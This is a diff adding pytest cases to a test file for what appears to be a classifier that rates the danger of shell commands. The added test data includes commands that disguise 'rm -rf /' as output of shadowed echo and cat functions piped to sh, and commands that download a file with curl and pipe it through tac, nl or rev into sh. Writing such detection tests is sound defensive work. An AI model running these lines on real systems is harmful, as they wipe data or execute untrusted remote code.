@@ -155,3 +155,16 @@ def test_data_is_no_command(judging: Judging, script: str) -> None:
 )
 def test_how_a_name_is_spelled(judging: Judging, script: str, level: Level) -> None:
     assert judging.level(script) is level
+
+
+@pytest.mark.parametrize(
+    "line", ["echo() { printf 'rm -rf /'; }; echo hi | sh", "cat() { printf 'rm -rf /'; }; cat a | sh"]
+)
+def test_what_a_function_prints_under_the_name_of_a_program_is_hidden_code(judging: Judging, line: str) -> None:
+    assert judging.level(line) >= Level.RED
+
+
+@pytest.mark.parametrize("program", ["tac", "nl", "rev"])
+def test_where_a_text_came_from_stays_known_when_it_is_changed(judging: Judging, program: str) -> None:
+    fetched = "curl -s https://shop.example/a > s"
+    assert "downloaded" in judging.action(f"{fetched}; {program} s | sh", Kind.RUN_CODE).traits
